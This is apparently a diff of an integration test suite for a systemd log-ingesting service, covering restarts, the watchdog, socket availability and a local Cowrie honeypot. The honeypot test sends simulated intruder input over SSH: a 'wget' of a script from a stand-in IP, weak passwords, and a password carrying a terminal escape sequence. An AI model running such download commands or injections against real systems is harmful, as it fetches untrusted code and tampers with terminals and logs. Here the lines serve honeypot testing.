@@ -188,9 +188,9 @@ def sees_logs_and_homes_only_to_read():
 
 def logs_it_may_not_read_are_reported():
     (entry, record), *_ = until("the report", lambda: logged("input_unreadable"))
-    assert "/var/log/locked" in record["path"], record
+    assert record["source"] == "locked" and "/var/log/locked/locked.json" in record["error"], record
     assert show("ActiveState") == "active"
-    return record["message"]
+    return record["error"]
 
 
 def a_directory_it_may_not_write_is_reported():
@@ -224,14 +224,17 @@ def attackers_of_a_real_cowrie_become_events():
 
     run("systemctl", "start", "cowrie.service")
     until("cowrie listens", connected)
-    # Cowrie hangs up behind each command.
-    commands = ["uname -a", "cat /proc/cpuinfo | grep name", "cd /tmp; wget http://203.0.113.5/x.sh"]
-    for password, command in zip(["123456", "honey\x1b[2J", "p\u00e4ssword"], commands):
+    typed = "uname -a\ncat /proc/cpuinfo | grep name\ncd /tmp; wget http://203.0.113.5/x.sh\nexit\n"
+    for password in ["123456", "honey\x1b[2J", "p\u00e4ssword"]:
         client = paramiko.SSHClient()
         client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
         try:
             client.connect("127.0.0.1", 2222, "root", password, allow_agent=False, look_for_keys=False, banner_timeout=DEADLINE_SECONDS)
-            client.exec_command(command)[1].read()
+            shell = client.invoke_shell()
+            shell.settimeout(DEADLINE_SECONDS)
+            shell.sendall(typed)
+            while shell.recv(4096):
+                pass
         except paramiko.AuthenticationException:
             pass
         finally:
@@ -274,13 +277,22 @@ def a_reload_takes_up_a_source():
     return show("StatusText")
 
 
-def a_restart_goes_unnoticed():
-    before = main_pid()
-    started = time.monotonic()
-    run("systemctl", "restart", UNIT)
-    took = time.monotonic() - started
-    running_anew(before)
-    return f"{took:.2f} s"
+def restarts_go_unnoticed(clients):
+    # One cannot be counted that is under way.
+    before, took = [dict(client.ends) for client in clients], []
+    for _ in range(5):
+        pid, started = main_pid(), time.monotonic()
+        run("systemctl", "restart", UNIT)
+        took.append(f"{time.monotonic() - started:.2f} s")
+        assert main_pid() not in (0, pid)
+        # Of the limit of starts in five minutes.
+        run("systemctl", "reset-failed", UNIT)
+        answered = [client.ends["answered"] for client in clients]
+        until("clients are answered", lambda: all(client.ends["answered"] > then + 10 for client, then in zip(clients, answered)))
+    after = [dict(client.ends) for client in clients]
+    other = [{end: n - then.get(end, 0) for end, n in now.items() if end != "answered"} for then, now in zip(before, after)]
+    assert not any(n for ends in other for n in ends.values()), other
+    return took
 
 
 def killed_it_is_started_again():
@@ -300,8 +312,9 @@ def hung_it_is_started_again_by_the_watchdog():
     running_anew(before)
     text = run("journalctl", "-u", UNIT, "--no-pager", "-o", "cat")
     assert "Watchdog timeout" in text, text[-2000:]
-    (_, record), *_ = logged("actor_stalled")
-    return record["message"] + ": " + str(record.get("actor"))
+    stalled = {f"{record['actor']} {record['name']}" for entry, record in logged("actor_stalled") if entry["_PID"] == str(before)}
+    assert "ingest steady" in stalled, stalled
+    return sorted(stalled)
 
 
 def the_journal_has_levels_and_fields():
@@ -340,7 +353,9 @@ def the_sockets_never_refused(clients):
         client.join()
         ends[str(client.address)] = dict(client.ends)
         assert client.ends["answered"] > 100, ends
+        # Whom a killed process was just about to answer is cut off; nobody is refused.
         assert not [end for end in client.ends if end.startswith("not connected")], ends
+        assert sum(client.ends.values()) - client.ends["answered"] <= 4, ends
     return ends
 
 
@@ -382,7 +397,7 @@ def main():
     check(members_of_the_group_may_ask_and_strangers_may_not)
     check(a_credential_signs)
     check(a_reload_takes_up_a_source)
-    check(a_restart_goes_unnoticed)
+    check(restarts_go_unnoticed, clients)
     check(killed_it_is_started_again)
     check(hung_it_is_started_again_by_the_watchdog)
     check(the_journal_has_levels_and_fields)
